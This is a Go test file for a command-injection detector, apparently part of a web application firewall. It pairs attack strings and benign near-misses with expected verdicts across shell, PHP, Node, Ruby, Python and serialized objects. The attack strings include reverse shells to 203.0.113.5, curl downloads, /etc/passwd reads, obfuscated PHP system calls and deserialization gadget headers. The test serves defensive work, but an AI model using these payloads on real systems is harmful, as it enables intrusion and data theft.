package rce

import (
	"testing"

	"github.com/weirnode/weir/point"
)

// TestPlaces holds commands to what must come of them where a value is an address, a
// file's name, a header field or a segment of a path.
func TestPlaces(t *testing.T) {
	f := func(kind point.Kind, text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, kind); got.Score() >= 8 != attack {
			t.Errorf("%s %q scores %d: %+v", kind, text, got.Score(), got.Marks[:got.N])
		}
	}
	// Backticks within a word.
	f(point.Text, "192.0.2.7`whoami`", true)
	f(point.Text, "a.png`id`", true)
	f(point.Text, "my photo.zip`curl 203.0.113.5/k -o /tmp/k`", true)
	f(point.Text, "k+`hostname`@example.org", true)
	f(point.Text, "the `id` of t.`id`", false)
	f(point.Text, "pre-`node` times", false)
	f(point.Text, "gql`type User { id }`", false)
	f(point.Text, "rock`n`roll", false)
	f(point.Text, "see `ls`find` and `id`", false)
	f(point.Text, "#{`hostname`}", true)
	// A value that is nothing but commands.
	f(point.Text, "ls ; id", true)
	f(point.Text, "whoami && hostname", true)
	f(point.Text, "ls && pwd", false)
	f(point.Text, "id ; hostname", false)
	f(point.Text, "k&&id", true)
	f(point.Text, "k;ls", true)
	f(point.Text, "name|id", false)
	f(point.Text, "mp3;wav;ls", false)
	f(point.Text, "Coeur d'Alene; ID", false)
	f(point.Text, "192.0.2.9;cat flag", true)
	f(point.Text, "192.0.2.9;ssh open", false)
	f(point.Text, "shop.example;mail server", false)
	// What stands in front of a command, and commands of any name.
	f(point.Text, "k;LC_ALL=C /bin/ls /", true)
	f(point.Text, "k;TZ=UTC id", true)
	f(point.Text, "A=1;B=2 sort", false)
	f(point.Text, "Server=k;DATABASE=sales date", false)
	f(point.Text, ";\x00id", true)
	f(point.Text, "k;lpr /etc/passwd", true)
	f(point.Text, "k;edit /etc/fstab", false)
	f(point.Text, "k;nproc", true)
	f(point.Text, "%pipe%id", true)
	f(point.Text, "bash -i >& /dev/tcp/203.0.113.5/9 0>&1", true)
	f(point.Text, "k;echo 'a;b'>/tmp/k.go;go run /tmp/k.go", true)
	f(point.Text, "k;ps 2>&1", true)
	f(point.Text, "k; while true; do id; done", true)
	f(point.Text, "k; if id; then id; fi", true)
	f(point.Text, "cd k; for f in *; do mv $f l; done", false)
	f(point.Text, "nginx -s quit; while killall -0 nginx; do sleep 1; done", false)
	f(point.Text, "k && ./arm7", true)
	f(point.Text, "src; ./lib", false)
	f(point.Text, "k;`echo id`", true)
	f(point.Text, "192.0.2.9; useradd k", true)
	f(point.Text, "1.5; curl rocks", false)
	f(point.Text, "v1.2; fish and chips", false)
	f(point.Text, "my k.zip`id`", true)
	f(point.HeaderText, "192.0.2.9;id", true)
	f(point.HeaderText, "text/html;id", false)
	// Names of clients and header fields.
	f(point.UserAgent, "&id", true)
	f(point.UserAgent, ";read -t 5 < /dev/tcp/203.0.113.5/80", true)
	f(point.UserAgent, "k/1.0;cat /etc/passwd", true)
	f(point.UserAgent, "Mozilla/5.0 (X11; U; Linux; en; id)", false)
	f(point.UserAgent, "Dalvik/2.1.0 (Linux; U; Android 9; Touch; nl; sc)", false)
	f(point.UserAgent, "k/1.0 | build 5; host=a", false)
	f(point.HeaderText, ";id", true)
	f(point.HeaderText, "no-cache; id", false)
	// Options of programs.
	f(point.HeaderText, `--proxy-command='sh -c "id"'`, true)
	f(point.Segment, "--use-compress-program='sh -c id'", true)
	f(point.Segment, "--extensions=/tmp/k.so -X GET", true)
	f(point.Text, "--plugin=/opt/k/k.js", false)
	f(point.Text, "--lib=../lib/k.so", false)
	f(point.Text, `-o PermitLocalCommand=yes -o LocalCommand="bash -c id"`, true)
	f(point.Text, "-o output.txt", false)
	f(point.Text, `ssh -o ProxyCommand="ssh -W %h:%p gate" host`, false)
	f(point.Text, "k --output /var/www/k.php; id", true)
	f(point.Text, "-o/var/www/k.php", true)
	f(point.Text, "k.gif' -write /var/www/k.php '", true)
	f(point.Text, "-e 'sh k.sh' 203.0.113.5:/k .", true)
	f(point.Text, `rsync -e "ssh -p 2222" a b`, false)
	f(point.Text, "-z /bin/id -w /tmp/k.pcap", true)
	f(point.Text, "-z 9", false)
	f(point.Text, "-c core.sshCommand=id", true)
	f(point.Text, "-c config.yml", false)
	f(point.Text, "--shell=/bin/bash", false)
}

// TestTongues holds code of languages that servers run, and its near misses, to what must
// come of them.
func TestTongues(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	// JavaScript of servers.
	f(`'-(function(){process.exit()})()-'`, true)
	f(`setTimeout("process.kill(process.pid)")`, true)
	f(`process.on('SIGTERM', () => process.exit(0))`, false)
	f(`return process.exit(1)`, false)
	f(`how does process.exit() end it`, false)
	f(`while(true){require('fs').appendFileSync('/tmp/k','l')}`, true)
	f(`require("node:net").connect(9,'203.0.113.5')`, true)
	f(`require('net').createServer(k).listen(80)`, false)
	f(`JSON.parse(require('fs').readFileSync('package.json'))`, false)
	f(`vm.runInThisContext('k')`, true)
	f(`Bun.spawnSync(["id"])`, true)
	f(`Bun.file("/etc/passwd").text()`, true)
	f(`Bun.file("k.txt").text()`, false)
	f(`Reflect.get(globalThis,'process')`, true)
	f(`Reflect.get(target, key)`, false)
	f(`new Function('return process')()`, true)
	f(`new Function('return this')()`, false)
	f(`1;process.exit()`, true)
	f(`setTimeout(()=>{process.exit()},0)`, true)
	f(`require('fs').readFileSync('/etc/passwd')`, true)
	f(`spawn('sh',['-c','id'])`, true)
	f(`spawn('npm', ['install'])`, false)
	// Out of a string and back into it.
	f(`k'+process.env+'`, true)
	f(`';process.env.KEY;//`, true)
	f(`"+process.title+"`, false)
	f(`"process.env" and the like"`, false)
	f(`k'+System.getenv()+'`, true)
	f(`O'Brien; System.exit(0)`, false)
	f(`'use strict'; const k = 1; //`, false)
	f(`"-Thread.sleep(5000)-"`, true)
	f(`Files.readString(Path.of("/etc/passwd"))`, true)
	f(`Files.readString(Path.of("k.txt"))`, false)
	// PHP.
	f(`(strrev('metsys'))('id')`, true)
	f(`FFI::cdef("int system(char*c);")->system("id");`, true)
	f(`show_source('k.php');`, true)
	f(`readfile('k.pdf')`, false)
	f(`chr(115).chr(121).chr(115).chr(116).chr(101).chr(109)`, true)
	f(`chr(13).chr(10)`, false)
	f(`k);system(id`, true)
	f(`the system(id`, false)
	f(`echo implode(',',scandir('.'))`, true)
	f(`forward_static_call('system','id')`, true)
	f(`extract($_GET)`, true)
	// Ruby.
	f(`k <%= ENV.to_h %>`, true)
	f(`k <%= require 'socket';TCPSocket.new('203.0.113.5',9) %>`, true)
	f(`<%= ENV['DB_HOST'] %>`, false)
	f(`<%= user.name %> and ENV.to_h`, false)
	f(`k #{exec 'touch /tmp/k'}`, true)
	f(`#{Dir.entries('/')}`, true)
	f(`puts "#{Dir.pwd}/#{File.basename(path)}"`, false)
	f(`#{user.name}`, false)
	f(`TCPSocket.new('203.0.113.5',9)`, true)
	f(`TCPSocket.new('localhost', 2000)`, false)
	// Python, databases, media.
	f(`SELECT * FROM read_csv('id >/tmp/k |')`, true)
	f(`SELECT * FROM read_csv('k.csv')`, false)
	f(`os.execl('/bin/sh','sh')`, true)
	f(`os.listdir('/')`, true)
	f(`os.listdir(path)`, false)
	f(`zip:/k.jar!/k.db;MODE=MSSQLServer;CREATE TRIGGER k BEFORE SELECT ON t AS $$//javascript`, true)
	f(`file:///k.db;MODE=MySQL`, false)
	f(`concat:http://203.0.113.5/k|subfile,,start,0,end,64,,:///k`, true)
}

// TestObjects holds serialized objects, and files and messages like them, to what must come of
// them.
func TestObjects(t *testing.T) {
	f := func(kind point.Kind, text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, kind); got.Score() >= 8 != attack {
			t.Errorf("%s %q scores %d: %+v", kind, text, got.Score(), got.Marks[:got.N])
		}
	}
	f(point.Document, "\xac\xed\x00\x05sr\x00\x11java.util.HashMap", true)
	f(point.Text, "a.constructor.constructor.prototype.k", true)
	f(point.Text, "a.constructor.prototype.k=1", true)
	f(point.Text, `a["__proto__"].k`, true)
	f(point.Text, `what is a["__proto__"] for`, false)
	f(point.Text, "the a.constructor.prototype.k of it", false)
	f(point.Text, "%ac%ed%00%05sr", true)
	f(point.Text, `\xac\xed\x00\x05sr`, true)
	f(point.Text, `\xac is a dash`, false)
	f(point.Text, "Lcom.sun.rowset.JdbcRowSetImpl;", true)
	f(point.Text, "Lcom.example.Order;", false)
	f(point.FileHead, "\xac\xed\x00\x05sr\x00\x11java.util.HashMap", true)
	f(point.FileHead, "\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00", true)
	f(point.FileHead, "\x00\x01\x00\x00\x00\x10\x01\x00\x00\x04\x00\x00GPOS", false)
	f(point.FileHead, "\x00\x03\x00\x00\x00\x01\x00\x00\x00\x00\xff\xff\xff\xff\x11\n\x07Gsun.rmi.server.UnicastRef", true)
	f(point.FileHead, "\x00\x03\x00\x00\x00\x01\x00\x00\x00\x00\xff\xff\xff\xff\x11\n\x07#com.example.Order", false)
	f(point.Document, "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93", true)
	f(point.Document, "\x80\x02c__builtin__\neval\nq\x00X\x01", true)
	f(point.FileHead, "\x80\x02ccommands\ngetoutput\nq\x00", true)
	f(point.FileHead, "\x80\x02csklearn.linear_model\nRidge\nq\x00)\x81q\x01}", false)
	f(point.FileHead, "\x80\x02cnumpy.core.multiarray\n_reconstruct\nq\x00c__builtin__\nset\nq\x01", false)
	f(point.FileHead, "}q\x00(X\x01\x00\x00\x00aq\x01cposix\nsystem\nq\x02", true)
	f(point.FileHead, "a: 1\nb: !!org.springframework.k.L [\"http://h.example/\"]", true)
	f(point.FileHead, "a: !!python/name:materialx.emoji.twemoji", false)
	f(point.FileHead, "To make one, write !!python/object/apply.", false)
	f(point.FileHead, `a:1:{i:0;O:8:"stdClass":0:{}}`, true)
	f(point.FileName, `k|O:3:"Foo":1:{S:1:"a";b:0;}.png`, true)
	f(point.Text, "\x04\x08{\x06:\x06ao:\x1cGem::Requirement\x06:\x07", true)
	f(point.Text, "\x04\x08{\x07I\"\x0fsession_id\x06:\x06EFI\"\x25C:-ActiveSupport::HashWithIndifferentAccess", false)
	f(point.JSONKey, "py/reduce", true)
	f(point.JSONKey, "__js_function", true)
	f(point.JSONKey, "py/object", false)
	f(point.XMLText, "System.DelegateSerializationHolder", true)
}

// TestOptionsWithoutOperands reads options that end where their name or their operand is
// expected.
func TestOptionsWithoutOperands(t *testing.T) {
	for _, text := range []string{"\u00ad=k k", "\u00ad =k", "k \u00ad=", "-=k k", "--fprint0= ", "-fls  ", "-fprintf=''", "--exec=", "k -e= "} {
		if got := detector.Read(text, point.Text); got.Score() >= 8 {
			t.Errorf("%q scores %d", text, got.Score())
		}
	}
}

// TestCommandsBehindAddresses reads a command without arguments behind an address and what looks like
// an entity, a crontab's line, a document, a fence.
func TestCommandsBehindAddresses(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	const remark = "\n\n# and so we go on with what nobody reads, up to the length that a document is to have"
	f("192.0.2.7&lt;id", true)
	f("192.0.2.7&k;id", true)
	f("localhost&quot;cat /etc/passwd", true)
	f("R&amp;D id", false)
	f("Q&amp;id", false)
	f("192.0.2.7 -c 2 -W 1\nid", true)
	f("Room -c 2 -W 1\nid", false)
	f("7 7 7 7 7 ;id", true)
	f("7 7 7 7 7 ; and id", false)
	f("192.0.2.7;id"+remark, true)
	f("192.0.2.7\nid"+remark, true)
	f("192.0.2.7```id```", true)
	f("192.0.2.7 ```id``` is who you are", false)
}

// TestAskedFor holds commands that stand behind what an exception is made for.
func TestAskedFor(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	// A line of a shell, left by its quote.
	f("git log' && reboot #", true)
	f("test -f /k'| ifconfig'", true)
	f("docker run k'$(hostname)'", true)
	f("git commit -m 'fix'; git push", false)
	f("the boys' & git", false)
	f("my 5' | nc", false)
	f("x = f\"{a}\"; ls", false)
	// Backticks of Markdown, cut off by a remark.
	f("127.0.0.1`touch /tmp/k` #", true)
	f("a.pdf`id` ;#", true)
	f("run `make` # twice", false)
	// Processes that are killed.
	f("kill -9 $(reboot)", true)
	f("kill -9 $(lsof -t -i:80)", false)
	f("docker rm $(docker ps -aq)", false)
	// A fence with something behind it.
	f("```\nk\n```; uname -a", true)
	f("```sh;id", true)
	f("```sh\ngit pull; make\n```\nand then `make install`", false)
}

// TestHanded holds arguments of programs to what must come of them.
func TestHanded(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	f("-F k=</etc/passwd", true)
	f("--pdf-engine=id", true)
	f("--pdf-engine=xelatex", false)
	f("--pre /bin/id", true)
	f("--pre=curl", true)
	f("--pre=5", false)
	f("--up id", true)
	f("--up to 50 % off", false)
	f("-cmd .shell id", true)
	f("-Xbootclasspath/a:/k.jar", true)
	f("--script-security 2 --tls-verify id", true)
	f("--mount type=bind,src=/,dst=/k", true)
	f("--mount type=bind,src=/srv/k,dst=/k", false)
	f("-a/var/www/k.php", true)
	f("--execute=output_document=/var/www/k", true)
	f("GIT_SSH_COMMAND=curl http://k.example", true)
	f("GIT_SSH_COMMAND=ssh -i key", false)
	f("LESSOPEN=|id %s", true)
	f("subfile,,start,0,end,100,,:/etc/passwd", true)
	f("movie=/etc/passwd", true)
	f("movie=/films/k.mp4", false)
}

// TestPHP holds code of PHP to what must come of it.
func TestPHP(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	f("include'/srv/k.txt';", true)
	f("').include_once'/srv/k.txt'.('", true)
	f("#include\"/usr/include/k.h\"", false)
	f("we include'em all", false)
	f("[$a,$b]=['system','id'];$a($b)", true)
	f("${'a'}='system';$a('id')", true)
	f("extract(['f'=>'system']);$f('id')", true)
	f("define('F','system');(F)('id')", true)
	f("['$http','exec',function($http){return $http.get('/k')}]", false)
	f("$translate('system')", false)
	f("roles=['system','user'] (both)", false)
	f("(chr(115).'ystem')('id')", true)
	f("((ucfirst('system'))('id'))", true)
	f("iterator_apply(new ArrayIterator([1]),'system',['id'])", true)
	f("the system (new version (2)) is slow", false)
	f("1;echo json_encode(`id`)", true)
	f("fputs(STDOUT,`id`)", true)
	f("call t(`id`) and t(`date`) for labels", false)
	f("console.log(`date`)", false)
	f("'.system ( 'id' ).'", true)
	f("'.SYSTEM/**/('id').'", true)
	f("(new SimpleXMLElement('<a/>'))->asXML('/srv/k.php')", true)
	f("$xml->asXML($file)", false)
}

// TestNode holds code of Node to what must come of it.
func TestNode(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	f("1;[1].map(process.exit)", true)
	f("JSON.parse('[1]',process.exit)", true)
	f("process.on('SIGINT',process.exit)", false)
	f("server.on('close',process.exit)", false)
	f("process.exit.call()", true)
	f("(0,process.exit)()", true)
	f("(()=>process)().env.K", true)
	f("(function(){return this})().process.env.K", true)
	f("process/**/.env/**/.K", true)
	f("process.env.K", false)
	f("structuredClone(process.env)", true)
	f("structuredClone(state)", false)
	f("require('fs').readFileSync('/srv/k.txt')+''", true)
	f("require('fs').readFileSync('/dev/stdin','utf8')", false)
	f("require('fs').readFileSync('./k.txt')", false)
	f("const k = require('fs').readFileSync('/srv/k.txt')", false)
	f("Object.getOwnPropertyDescriptor(global,'process').get()", true)
	f("Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0,3000)", true)
}

// TestFormats holds formats of Python to what must come of them.
func TestFormats(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	f("{user.save.__globals__[SECRET]}", true)
	f("hello {k.l.__globals__}", true)
	f("how does f.__globals__[name] work", false)
	f("{name} and f.__globals__[name]", false)
}

// TestRan holds commands of shells that were seen to run to what must come of them.
func TestRan(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	f("';k()(cat /etc/passwd);k;'l", true)
	f("$(k(){ cat /etc/passwd;};k)", true)
	f("`k()(cat /etc/hosts);k`", true)
	f("k;a()(b);c", false)
	f("setTimeout(()=>{a()(b)});next()(cat)", false)
	f("k;l=/etc/passwd;cat $l", true)
	f("k    ;id", true)
	f("192.0.2.1    $(whoami)", true)
	f("64001 | mysql             | mysql-server", false)
	f("`l=/etc/passwd;cat $l`", true)
	f("k;file=/etc/passwd;mode=rw", false)
	f("users=/etc/passwd; see $users", false)
}
